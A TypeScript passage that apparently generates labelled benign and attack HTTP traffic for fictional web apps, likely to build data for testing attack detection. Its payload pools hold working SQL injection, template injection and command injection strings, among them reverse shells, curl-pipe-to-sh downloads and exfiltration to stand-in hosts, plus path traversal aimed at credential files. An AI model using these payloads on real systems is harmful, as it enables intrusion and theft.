    'POST',
    `${api}/oauth/token`,
    sdk({ 'user-agent': 'Polyglotter-CLI/4.2.0 node/22.11.0 win32-x64' }),
    form([
      ['grant_type', 'refresh_token'],
      ['refresh_token', b64url(64)],
      ['client_id', 'polyglotter-cli'],
    ]),
    'application/x-www-form-urlencoded',
  );
  add(
    'form',
    'POST',
    '/invite/accept',
    browser(L10N, '/invite', { accept: 'text/html,*/*;q=0.8' }),
    form([
      ['token', b62(32)],
      ['display_name', 'Ngozi Adeyemi-Okafor'],
      ['languages', 'en,yo,ig,fr'],
      ['bio', 'Freelance translator (EN<>FR, EN>YO). 8+ yrs; medical & legal. Rates: $0.10/word.'],
    ]),
    'application/x-www-form-urlencoded',
  );
  addJson(
    'cms-html',
    'PUT',
    `${api}/projects/${proj}/email-templates/welcome/de`,
    browser(L10N, '/templates'),
    {
      subject: 'Willkommen bei {appName}, {firstName}!',
      html: '<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px;font-family:Helvetica,Arial,sans-serif;"><h1 style="font-size:22px;margin:0 0 12px;">Hallo {firstName} 👋</h1><p>Schön, dass du da bist! Hier sind deine ersten Schritte:</p><ul><li><a href="{dashboardUrl}" style="color:#2563eb;">Dashboard öffnen</a></li><li>Team einladen</li></ul><p style="color:#6b7280;font-size:12px;">Du erhältst diese E‑Mail, weil du dich bei {appName} registriert hast. <a href="{unsubscribeUrl}">Abmelden</a></p></td></tr></table>',
    },
  );
}

// ---------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------

const attackDrafts: Draft[] = [];
function atk(
  family: string,
  technique: string,
  method: string,
  path: string,
  headers: Headers,
  body = '',
  ct?: string,
): void {
  const h = { ...headers };
  if (ct) h['content-type'] = ct;
  attackDrafts.push({ kind: 'attack', family, technique, method, path, headers: h, body });
}

/** Attack tooling user agents, mixed with browser ones (many attacks come through a proxied browser). */
const TOOL_UAS = [
  'sqlmap/1.8.11#stable (https://sqlmap.org)',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'curl/8.5.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
];
function attackerHeaders(t: { host: string; page: string; app: string }): Headers {
  const r = rnd();
  if (r < 0.45) {
    const h = browser(t.host, t.page);
    if (chance(0.4)) h['user-agent'] = pick(TOOL_UAS);
    return h;
  }
  if (r < 0.7) return mobile(t.app);
  const h = sdk();
  h['user-agent'] = pick(TOOL_UAS);
  return h;
}

function setPath(obj: Record<string, unknown>, path: string, value: unknown): void {
  const segs = path.split('.');
  let cur: Record<string, unknown> | unknown[] = obj;
  for (let i = 0; i < segs.length - 1; i++) {
    const s = segs[i]!;
    const nextIsIndex = /^\d+$/.test(segs[i + 1]!);
    const container = cur as Record<string, unknown>;
    if (container[s] === undefined || container[s] === null || typeof container[s] !== 'object')
      container[s] = nextIsIndex ? [] : {};
    cur = container[s] as Record<string, unknown>;
  }
  (cur as Record<string, unknown>)[segs[segs.length - 1]!] = value;
}
function getObj(obj: Record<string, unknown>, path: string): Record<string, unknown> {
  const marker = '__h8_tmp__';
  setPath(obj, `${path}.${marker}`, 1);
  let cur: Record<string, unknown> = obj;
  for (const s of path.split('.')) cur = cur[s] as Record<string, unknown>;
  delete cur[marker];
  return cur;
}
function getArr(obj: Record<string, unknown>, path: string): unknown[] {
  let cur: unknown = obj;
  for (const s of path.split('.')) cur = (cur as Record<string, unknown>)[s];
  if (Array.isArray(cur)) return cur;
  const a: unknown[] = [];
  setPath(obj, path, a);
  return a;
}
function uesc(s: string, all = false): string {
  let out = '';
  for (const ch of s) {
    const needsEscape = all || !/[A-Za-z0-9]/.test(ch) || chance(0.35);
    if (!needsEscape) {
      out += ch;
      continue;
    }
    for (let i = 0; i < ch.length; i++) out += `\\u${ch.charCodeAt(i).toString(16).padStart(4, '0')}`;
  }
  return out;
}
function cookieSafe(s: string): string {
  return s.replace(/[\s;,"\\%\u0080-\uffff]/g, (c) => encodeURIComponent(c));
}
const MARK = 'H8MARKERH8';

interface Target {
  app: string;
  host: string;
  page: string;
  method: string;
  path: string;
  ct?: string;
  base: () => Record<string, unknown>;
  fields: string[];
  deep: string;
  arr: string;
  keyAt: string;
  jsonField: string;
  b64Field: string;
}

const TEXT_TARGETS: Target[] = [
  {
    app: 'help',
    host: HELP,
    page: '/agent/tickets/new',
    method: 'POST',
    path: '/api/v2/tickets',
    base: () => ({
      ticket: {
        subject: 'Cannot export tickets',
        comment: { body: 'Export stops at 50 rows, please help.', public: true },
        priority: 'normal',
        requester: { name: 'Dana Kim', email: 'dana.kim@acme-corp.com' },
        tags: ['export'],
        custom_fields: {},
      },
    }),
    fields: ['ticket.subject', 'ticket.comment.body', 'ticket.requester.name'],
    deep: 'ticket.via.source.from.name',
    arr: 'ticket.tags',
    keyAt: 'ticket.custom_fields',
    jsonField: 'ticket.metadata',
    b64Field: 'ticket.widget_context',
  },
  {
    app: 'help',
    host: HELP,
    page: '/admin/macros/new',
    method: 'POST',
    path: '/api/v2/macros',
    base: () => ({
      macro: {
        title: 'Refund approved',
        active: true,
        actions: [
          { field: 'comment_value_html', value: 'Hi there, your refund is on its way.' },
          { field: 'status', value: 'solved' },
        ],
      },
    }),
    fields: ['macro.title', 'macro.actions.0.value'],
    deep: 'macro.restriction.conditions.0.value',
    arr: 'macro.actions',
    keyAt: 'macro.settings',
    jsonField: 'macro.description',
    b64Field: 'macro.import_blob',
  },
  {
    app: 'ci',
    host: CI,
    page: '/acme/web/-/merge_requests/2291',
    method: 'POST',
    path: '/api/v4/projects/412/merge_requests/2291/notes',
    base: () => ({ body: 'Pipeline failed on arm64, see job log.', internal: false }),
    fields: ['body'],
    deep: 'position.line_range.start.line_code',
    arr: 'labels',
    keyAt: 'reactions',
    jsonField: 'position_json',
    b64Field: 'attachment_b64',
  },
  {
    app: 'health',
    host: HEALTH,
    page: '/messages/new',
    method: 'POST',
    path: '/api/v1/messages/threads',
    base: () => ({
      recipientPoolId: 'pool_primary-care',
      subject: 'Medication question',
      body: 'Is it ok to take ibuprofen with lisinopril?',
      attachments: [],
      patientId: 'Patient/448812',
    }),
    fields: ['subject', 'body', 'recipientPoolId'],
    deep: 'context.encounter.reasonCode.text',
    arr: 'attachments',
    keyAt: 'preferences',
    jsonField: 'clientContext',
    b64Field: 'draftState',
  },
  {
    app: 'health',
    host: HEALTH,
    page: '/scheduling',
    method: 'POST',
    path: '/api/v1/appointments',
    base: () => ({
      slotId: 'slot_8F2kq1LmZx0P',
      practitionerId: 'Practitioner/4471',
      visitType: 'VIDEO',
      reasonForVisit: 'Follow-up: BP meds',
      questionnaire: { q1_fever: false, q3_notes: '' },
    }),
    fields: ['reasonForVisit', 'slotId', 'questionnaire.q3_notes'],
    deep: 'questionnaire.answers.0.valueString',
    arr: 'symptoms',
    keyAt: 'questionnaire',
    jsonField: 'intakeJson',
    b64Field: 'insuranceCardOcr',
  },
  {
    app: 'learn',
    host: LEARN,
    page: '/community/new',
    method: 'POST',
    path: '/api/forum/threads',
    base: () => ({
      title: 'Test 3 fails',
      body: 'My loop skips the last element, why?',
      courseId: 'js-fundamentals',
      tags: ['javascript'],
      notifyOnReply: true,
    }),
    fields: ['title', 'body', 'courseId'],
    deep: 'meta.editor.draft.title',
    arr: 'tags',
    keyAt: 'meta',
    jsonField: 'editorState',
    b64Field: 'attachments.0.data',
  },
  {
    app: 'learn',
    host: LEARN,
    page: '/quiz',
    method: 'POST',
    path: '/api/quizzes/41/attempts',
    base: () => ({
      answers: [
        { q: 1, choice: 'b' },
        { q: 2, text: 'DROP removes the table' },
      ],
      durationSec: 312,
      finished: true,
    }),
    fields: ['answers.1.text', 'answers.0.choice'],
    deep: 'answers.2.text',
    arr: 'answers',
    keyAt: 'answers.0',
    jsonField: 'clientState',
    b64Field: 'proctoring.snapshot',
  },
  {
    app: 'social',
    host: SOCIAL,
    page: '/home',
    method: 'POST',
    path: '/api/v1/statuses',
    base: () => ({
      status: 'Sunday bake 🍞 #sourdough',
      visibility: 'public',
      language: 'en',
      media_ids: [],
      poll: null,
    }),
    fields: ['status', 'spoiler_text', 'language'],
    deep: 'poll.options.0',
    arr: 'media_ids',
    keyAt: 'extensions',
    jsonField: 'client_meta',
    b64Field: 'draft_b64',
  },
  {
    app: 'social',
    host: SOCIAL,
    page: '/settings/profile',
    method: 'PATCH',
    path: '/api/v1/accounts/update_credentials',
    ct: 'application/merge-patch+json',
    base: () => ({
      display_name: 'Zoë 🌻',
      note: 'Backend dev',
      fields_attributes: { '0': { name: 'Website', value: 'https://zoe.dev' } },
    }),
    fields: ['display_name', 'note'],
    deep: 'fields_attributes.1.value',
    arr: 'featured_tags',
    keyAt: 'fields_attributes',
    jsonField: 'theme_json',
    b64Field: 'avatar_crop',
  },
  {
    app: 'shop',
    host: SHOP,
    page: '/seller/listings/edit',
    method: 'POST',
    path: '/api/v3/listings',
    base: () => ({
      listing: {
        title: 'Handmade Ceramic Mug',
        description_html: '<p>Wheel-thrown mug, 12 oz.</p>',
        price: { amount: 2800, currency: 'USD' },
        quantity: 12,
        tags: ['handmade'],
      },
    }),
    fields: ['listing.title', 'listing.description_html'],
    deep: 'listing.variations.0.values.0',
    arr: 'listing.tags',
    keyAt: 'listing.attributes',
    jsonField: 'listing.seo_json',
    b64Field: 'listing.editor_snapshot',
  },
  {
    app: 'shop',
    host: SHOP,
    page: '/purchases',
    method: 'POST',
    path: '/api/v3/orders/58213044/review',
    base: () => ({
      rating: 5,
      title: 'Great mug',
      text: 'Arrived fast, love it.',
      photos: [],
      recommend: true,
    }),
    fields: ['title', 'text'],
    deep: 'seller_feedback.comment.text',
    arr: 'photos',
    keyAt: 'ratings',
    jsonField: 'survey',
    b64Field: 'signature_blob',
  },
  {
    app: 'shop',
    host: SHOP,
    page: '/cart',
    method: 'POST',
    path: '/api/v3/cart/coupons',
    base: () => ({ code: 'SAVE20-FALL', cart_id: 'c1f3b7a2-6d0e-4b8e-9f1a-2c3d4e5f6a7b' }),
    fields: ['code', 'cart_id'],
    deep: 'context.campaign.source',
    arr: 'codes',
    keyAt: 'context',
    jsonField: 'promo_meta',
    b64Field: 'referral_token',
  },
  {
    app: 'bi',
    host: BI,
    page: '/dashboards/412',
    method: 'POST',
    path: '/api/v1/dashboards/412/filters',
    base: () => ({ name: 'Region', expression: "region = 'EMEA'", appliesTo: ['*'], enabled: true }),
    fields: ['name', 'expression'],
    deep: 'options.defaults.0.value',
    arr: 'appliesTo',
    keyAt: 'options',
    jsonField: 'uiState',
    b64Field: 'shareState',
  },
  {
    app: 'bi',
    host: BI,
    page: '/dashboards/new',
    method: 'POST',
    path: '/api/v1/dashboards',
    base: () => ({ name: 'Exec KPIs', description: 'Weekly numbers', tags: ['exec'] }),
    fields: ['name', 'description'],
    deep: 'layout.widgets.0.title',
    arr: 'tags',
    keyAt: 'options',
    jsonField: 'layoutJson',
    b64Field: 'importBundle',
  },
  {
    app: 'l10n',
    host: L10N,
    page: '/editor',
    method: 'POST',
    path: '/api/v2/projects/prj_Qx81LmZa0P/keys',
    base: () => ({
      key: 'cart.empty',
      description: 'Cart footer',
      source: { locale: 'en', value: 'Your cart is empty' },
      translations: [{ locale: 'de', value: 'Dein Warenkorb ist leer' }],
    }),
    fields: ['key', 'description', 'source.value'],
    deep: 'translations.0.value',
    arr: 'platforms',
    keyAt: 'customAttributes',
    jsonField: 'screenshotMeta',
    b64Field: 'contextB64',
  },
  {
    app: 'ci',
    host: CI,
    page: '/acme/web/-/settings/ci_cd',
    method: 'POST',
    path: '/api/v4/projects/412/variables',
    base: () => ({
      key: 'NODE_OPTIONS',
      value: '--max-old-space-size=4096',
      protected: false,
      environment_scope: '*',
      variable_type: 'env_var',
    }),
    fields: ['key', 'value', 'environment_scope'],
    deep: 'options.masking.hint',
    arr: 'tags',
    keyAt: 'options',
    jsonField: 'description',
    b64Field: 'value_b64',
  },
];

const URL_TARGETS: Target[] = [
  {
    app: 'help',
    host: HELP,
    page: '/admin/webhooks/new',
    method: 'POST',
    path: '/api/v2/webhooks',
    base: () => ({
      webhook: {
        name: 'Sync to CRM',
        endpoint: 'https://crm.acme-corp.com/hooks/tidewater',
        http_method: 'POST',
        request_format: 'json',
        subscriptions: ['conditional_ticket_events'],
      },
    }),
    fields: ['webhook.endpoint'],
    deep: 'webhook.authentication.data.token_url',
    arr: 'webhook.fallback_endpoints',
    keyAt: 'webhook.headers',
    jsonField: 'webhook.config_json',
    b64Field: 'webhook.endpoint_b64',
  },
  {
    app: 'ci',
    host: CI,
    page: '/acme/web/-/hooks',
    method: 'POST',
    path: '/api/v4/projects/412/hooks',
    base: () => ({
      url: 'https://chat.acme.io/hooks/ci',
      push_events: true,
      pipeline_events: true,
      enable_ssl_verification: true,
    }),
    fields: ['url'],
    deep: 'custom_headers.0.value',
    arr: 'url_variables',
    keyAt: 'custom_headers_map',
    jsonField: 'custom_webhook_template',
    b64Field: 'url_b64',
  },
  {
    app: 'ci',
    host: CI,
    page: '/projects/new#import_project',
    method: 'POST',
    path: '/api/v4/projects/import_url',
    base: () => ({
      name: 'mirror-of-lib',
      namespace: 'acme',
      import_url: 'https://github.com/acme/lib.git',
      mirror: true,
    }),
    fields: ['import_url'],
    deep: 'mirror_settings.remote.url',
    arr: 'submodule_urls',
    keyAt: 'mirror_settings',
    jsonField: 'import_options',
    b64Field: 'import_url_b64',
  },
  {
    app: 'health',
    host: HEALTH,
    page: '/admin/subscriptions',
    method: 'POST',
    path: '/fhir/r4/Subscription',
    ct: 'application/fhir+json',
    base: () => ({
      resourceType: 'Subscription',
      status: 'requested',
      reason: 'Lab results to EHR',
      criteria: 'Observation?category=laboratory',
      channel: {
        type: 'rest-hook',
        endpoint: 'https://ehr.partner-clinic.org/fhir/notify',
        payload: 'application/fhir+json',
      },
    }),
    fields: ['channel.endpoint'],
    deep: 'channel.extension.0.valueUrl',
    arr: 'channel.header',
    keyAt: 'meta',
    jsonField: 'contact',
    b64Field: 'channel.endpoint_b64',
  },
  {
    app: 'social',
    host: SOCIAL,
    page: '/compose',
    method: 'POST',
    path: '/api/v1/link_previews',
    base: () => ({ url: 'https://blog.zoe.dev/mongo-to-pg', locale: 'en' }),
    fields: ['url'],
    deep: 'hints.oembed.endpoint',
    arr: 'urls',
    keyAt: 'hints',
    jsonField: 'embed',
    b64Field: 'url_b64',
  },
  {
    app: 'social',
    host: SOCIAL,
    page: '/settings/profile',
    method: 'POST',
    path: '/api/v1/accounts/avatar/import',
    base: () => ({ source: 'url', avatar_url: 'https://gravatar.com/avatar/9f86d081884c7d65.png?s=400' }),
    fields: ['avatar_url'],
    deep: 'crop.source.url',
    arr: 'fallback_urls',
    keyAt: 'crop',
    jsonField: 'options',
    b64Field: 'avatar_url_b64',
  },
  {
    app: 'shop',
    host: SHOP,
    page: '/seller/listings/edit',
    method: 'POST',
    path: '/api/v3/listings/images/import',
    base: () => ({
      listing_id: 802211934,
      image_url: 'https://images.unsplash.com/photo-1514228742587-6b1558fcca3d?w=1600',
      rank: 1,
    }),
    fields: ['image_url'],
    deep: 'source.remote.href',
    arr: 'image_urls',
    keyAt: 'source',
    jsonField: 'transform',
    b64Field: 'image_url_b64',
  },
  {
    app: 'bi',
    host: BI,
    page: '/data_sources/new',
    method: 'POST',
    path: '/api/v1/data_sources',
    base: () => ({
      name: 'Status API',
      type: 'json_api',
      options: { url: 'https://status.acme.io/api/v2/summary.json', timeout: 10 },
    }),
    fields: ['options.url'],
    deep: 'options.auth.oauth.token_url',
    arr: 'options.allowed_hosts',
    keyAt: 'options.headers',
    jsonField: 'options.raw',
    b64Field: 'options.url_b64',
  },
  {
    app: 'l10n',
    host: L10N,
    page: '/import',
    method: 'POST',
    path: '/api/v2/projects/prj_Qx81LmZa0P/imports',
    base: () => ({
      format: 'i18next_json',
      locale: 'de',
      source_url: 'https://raw.githubusercontent.com/acme/app/main/locales/de.json',
    }),
    fields: ['source_url'],
    deep: 'source.git.remote',
    arr: 'additional_sources',
    keyAt: 'source',
    jsonField: 'options',
    b64Field: 'source_url_b64',
  },
];

const FILE_TARGETS: Target[] = [
  {
    app: 'help',
    host: HELP,
    page: '/agent/tickets/10233',
    method: 'POST',
    path: '/api/v2/tickets/10233/attachments/link',
    base: () => ({ token: 'up_8Kq2LmZx0PaaB1', filename: 'screenshot.png', content_type: 'image/png' }),
    fields: ['filename'],
    deep: 'storage.location.key',
    arr: 'thumbnails',
    keyAt: 'storage',
    jsonField: 'upload_meta',
    b64Field: 'filename_b64',
  },
  {
    app: 'ci',
    host: CI,
    page: '/acme/web/-/jobs/88213',
    method: 'POST',
    path: '/api/v4/jobs/88213/artifacts/browse',
    base: () => ({ path: 'coverage/lcov-report/index.html', ref: 'main' }),
    fields: ['path'],
    deep: 'options.archive.entry',
    arr: 'paths',
    keyAt: 'options',
    jsonField: 'selection',
    b64Field: 'path_b64',
  },
  {
    app: 'learn',
    host: LEARN,
    page: '/courses/python/exercises/12',
    method: 'POST',
    path: '/api/exercises/412/starter',
    base: () => ({ language: 'python', starterFile: 'exercises/4.3/main.py', reset: true }),
    fields: ['starterFile'],
    deep: 'workspace.files.0.path',
    arr: 'extraFiles',
    keyAt: 'workspace',
    jsonField: 'workspaceState',
    b64Field: 'starterFile_b64',
  },
  {
    app: 'bi',
    host: BI,
    page: '/reports/weekly',
    method: 'POST',
    path: '/api/v1/reports/render',
    base: () => ({ template: 'reports/weekly.html', format: 'pdf', dashboardId: 412 }),
    fields: ['template'],
    deep: 'options.header.partial',
    arr: 'partials',
    keyAt: 'options',
    jsonField: 'renderOptions',
    b64Field: 'template_b64',
  },
  {
    app: 'l10n',
    host: L10N,
    page: '/export',
    method: 'POST',
    path: '/api/v2/projects/prj_Qx81LmZa0P/exports',
    base: () => ({ format: 'gettext', locale: 'ru', output_path: 'locales/ru/LC_MESSAGES/django.po' }),
    fields: ['locale', 'output_path'],
    deep: 'bundle.files.0.path',
    arr: 'locales',
    keyAt: 'bundle',
    jsonField: 'bundle_spec',
    b64Field: 'output_path_b64',
  },
  {
    app: 'shop',
    host: SHOP,
    page: '/seller/tools/import',
    method: 'POST',
    path: '/api/v3/listings/import/status',
    base: () => ({ job_id: 'imp_4471', report: 'reports/imp_4471.csv' }),
    fields: ['report'],
    deep: 'download.file.name',
    arr: 'files',
    keyAt: 'download',
    jsonField: 'options',
    b64Field: 'report_b64',
  },
  {
    app: 'health',
    host: HEALTH,
    page: '/documents',
    method: 'POST',
    path: '/api/v1/documents/preview',
    base: () => ({ documentId: 'doc_88Zq1', page: 1, file: 'uploads/2026/03/IMG_4471.PNG' }),
    fields: ['file'],
    deep: 'render.overlay.font',
    arr: 'pages',
    keyAt: 'render',
    jsonField: 'viewerState',
    b64Field: 'file_b64',
  },
];

const CMD_TARGETS: Target[] = [
  {
    app: 'ci',
    host: CI,
    page: '/acme/web/-/pipelines/new',
    method: 'POST',
    path: '/api/v4/projects/412/pipeline',
    base: () => ({ ref: 'main', variables: [{ key: 'DEPLOY_ENV', value: 'staging' }] }),
    fields: ['ref', 'variables.0.value'],
    deep: 'inputs.deploy.region',
    arr: 'variables',
    keyAt: 'inputs',
    jsonField: 'trigger_payload',
    b64Field: 'ref_b64',
  },
  {
    app: 'ci',
    host: CI,
    page: '/admin/runners/new',
    method: 'POST',
    path: '/api/v4/runners/healthcheck',
    base: () => ({ host: 'runner-arm64-3.internal', port: 22, timeout: 5 }),
    fields: ['host'],
    deep: 'ssh.proxy.jump_host',
    arr: 'hosts',
    keyAt: 'ssh',
    jsonField: 'probe',
    b64Field: 'host_b64',
  },
  {
    app: 'ci',
    host: CI,
    page: '/acme/web/-/settings/registry',
    method: 'POST',
    path: '/api/v4/projects/412/registry/scan',
    base: () => ({ image: 'registry.acme.io/web', tag: 'v2.3.1', scanner: 'trivy' }),
    fields: ['image', 'tag'],
    deep: 'options.trivy.severity',
    arr: 'tags',
    keyAt: 'options',
    jsonField: 'scan_config',
    b64Field: 'image_b64',
  },
  {
    app: 'shop',
    host: SHOP,
    page: '/seller/listings/edit',
    method: 'POST',
    path: '/api/v3/listings/images/convert',
    base: () => ({ upload_id: 'up_7Zq1', filename: 'mug-front.heic', target_format: 'webp', quality: 85 }),
    fields: ['filename', 'target_format'],
    deep: 'resize.profile.name',
    arr: 'sizes',
    keyAt: 'resize',
    jsonField: 'filters',
    b64Field: 'filename_b64',
  },
  {
    app: 'learn',
    host: LEARN,
    page: '/sandbox',
    method: 'POST',
    path: '/api/sandbox/run',
    base: () => ({ exercise: 'bash-101/7', args: ['access.log'], stdin: '', timeoutMs: 3000 }),
    fields: ['exercise', 'args.0'],
    deep: 'env.vars.LANG',
    arr: 'args',
    keyAt: 'env',
    jsonField: 'runConfig',
    b64Field: 'stdin_b64',
  },
  {
    app: 'help',
    host: HELP,
    page: '/admin/diagnostics',
    method: 'POST',
    path: '/api/v2/diagnostics/dns',
    base: () => ({ domain: 'acme-corp.com', record: 'MX' }),
    fields: ['domain', 'record'],
    deep: 'options.resolver.address',
    arr: 'domains',
    keyAt: 'options',
    jsonField: 'check',
    b64Field: 'domain_b64',
  },
  {
    app: 'l10n',
    host: L10N,
    page: '/integrations/git',
    method: 'POST',
    path: '/api/v2/projects/prj_Qx81LmZa0P/git/sync',
    base: () => ({ repository: 'git@github.com:acme/mobile-app.git', branch: 'main', path: 'locales/' }),
    fields: ['branch', 'path'],
    deep: 'commit.author.name',
    arr: 'paths',
    keyAt: 'commit',
    jsonField: 'sync_options',
    b64Field: 'branch_b64',
  },
  ...TEXT_TARGETS.filter((t) =>
    ['/api/v2/tickets', '/api/forum/threads', '/api/v1/messages/threads'].includes(t.path),
  ),
];

// --- payload pools ----------------------------------------------------------------------------------------

const SQL_PAYLOADS = [
  "' OR 1=1-- -",
  "admin'-- ",
  "1' AND SLEEP(5)-- -",
  "1' AND (SELECT 4521 FROM (SELECT(SLEEP(5)))xYzq)-- kLmN",
  "'; WAITFOR DELAY '0:0:5'--",
  "1';SELECT pg_sleep(5)--",
  "' AND 1=(SELECT 1 FROM PG_SLEEP(5))--",
  '1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)',
  "1' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2))))--",
  "' UNION SELECT NULL,username,password_hash FROM users-- -",
  '-1 UNION ALL SELECT 1,@@version,3,4#',
  "1' ORDER BY 7-- -",
  "' AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))-- -",
  "' AND 1=CAST((SELECT current_user) AS int)--",
  "1' AND (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a'-- -",
  "') OR ('x'='x",
  '" OR ""="',
  '1;DROP TABLE tickets--',
  "'; EXEC master..xp_dirtree '\\\\x9f2k.oast.fun\\a'--",
  "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.q1w2.oast.me\\\\x'))-- -",
  "';COPY (SELECT '') TO PROGRAM 'nslookup $(whoami).pg.oast.live'--",
  "1' AND 2>1 AND 'a'='a",
  '(CASE WHEN (1=1) THEN name ELSE price END)',
  'name,(SELECT 1 FROM pg_sleep(5))',
  '1 RLIKE (SELECT (CASE WHEN (7390=7390) THEN 1 ELSE 0x28 END))',
  "'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'",
  "admin' /*!50000AND*/ SLEEP(5)#",
  "1'/**/UnIoN/**/SeLeCt/**/null,table_name/**/FrOm/**/information_schema.tables--+",
  "' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -",
  "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
  '1); DELETE FROM sessions; --',
  "' OR 'a'='a' LIMIT 1 OFFSET 0 --",
  "%' AND 8310=8310 AND '%'='",
  '1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))',
];

const TEMPLATE_PAYLOADS = [
  '{{7*7}}',
  "{{7*'7'}}",
  "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
  "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
  "{{ lipsum.__globals__['os'].popen('curl -s http://198.51.100.23/x|sh').read() }}",
  "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
  "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
  "{{['id']|filter('system')}}",
  "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('whoami')}}",
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  '${"freemarker.template.utility.Execute"?new()("cat /etc/hostname")}',
  "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
  '<%= `id` %>',
  "<%= system('cat /etc/passwd') %>",
  "<%= File.open('/etc/passwd').read %>",
  '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
  "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
  "*{T(java.lang.Runtime).getRuntime().exec('curl http://c7k2x.oast.pro')}",
  '${T(java.lang.System).getenv()}',
  "{system('id')}",
  "${self.module.cache.util.os.system('id')}",
  "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
  "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
  "<%= process.mainModule.require('child_process').execSync('id') %>",
  '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
  "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
  '${{<%[%\'"}}%\\.',
  "{{constructor.constructor('alert(document.domain)')()}}",
  '{{ config.items() }}',
  "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  '#{7*7}',
  '${7*7}',
];

const COMMAND_PAYLOADS = [
  '; id',
  '| cat /etc/passwd',
  '$(curl -s http://203.0.113.7/x.sh|sh)',
  '`sleep 10`',
  '127.0.0.1 && whoami',
  'x;cat${IFS}/etc/passwd',
  'main\nwget http://198.51.100.23/b -O /tmp/b; chmod +x /tmp/b; /tmp/b',
  '||ping -c 10 127.0.0.1||',
  '$(nslookup $(whoami).c7k2x.oast.pro)',
  "';/bin/bash -i >& /dev/tcp/198.51.100.9/4444 0>&1;'",
  '& powershell -nop -w hidden -c "iex(New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a.ps1\')"',
  '| nc -e /bin/sh 198.51.100.9 4444',
  '$(echo${IFS}Y2F0IC9ldGMvcGFzc3dk|base64${IFS}-d|sh)',
  ';{cat,/etc/passwd}',
  '`id`',
  '${IFS}&&${IFS}uname${IFS}-a',
  'test.png" ; curl http://c7k2x.oast.pro/$(hostname) #',
  '--upload-pack=touch /tmp/pwned',
  '$(sleep 7)',
  'x;python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.9",443));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")\'',
  "a' ; /usr/bin/id ; echo '",
  '1;c\\at /et\\c/pas\\swd',
  "&& c''at /e't'c/pa''sswd",
  ';/???/??t${IFS}/???/p??s??',
  'acme.com\nid',
  'webp -o /tmp/x; curl -d @/etc/passwd http://203.0.113.7/',
  '%0aid',
  '$(printf "\\x69\\x64")',
  '| busybox wget http://198.51.100.23/m -O- | sh',
  "; perl -e 'print `id`'",
];
const SHELLSHOCK = [
  "() { :; }; /bin/bash -c 'id'",
  '() { :;}; echo; /bin/cat /etc/passwd',
  '() { ignored; }; /usr/bin/curl -s http://203.0.113.7/s | sh',
];

const PATH_PAYLOADS = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2f..%2fetc%2fpasswd',
  '....//....//....//etc/passwd',
  '..\\..\\..\\..\\windows\\win.ini',
  '/var/www/html/../../../etc/shadow',
  '%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron',
  '..;/..;/..;/WEB-INF/web.xml',
  '/proc/self/cwd/config/database.yml',
  '../../../../../../../../root/.ssh/id_rsa',
  '..%c0%af..%c0%af..%c0%afetc/passwd',
  '....\\\\....\\\\....\\\\web.config',
  '../../../../app/.env',
  '../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
  '..%5c..%5c..%5cboot.ini',
  '../../../etc/passwd%00.png',
  '/etc/passwd',
  '..%252f..%252f..%252fetc%252fhosts',
  '.../.../.../.../etc/passwd',
  'locales/../../../../../proc/1/environ',
  '%2e%2e/%2e%2e/%2e%2e/home/app/.aws/credentials',
  'C:\\..\\..\\Windows\\System32\\drivers\\etc\\hosts',
  '../../../../usr/local/app/config/secrets.json',
];

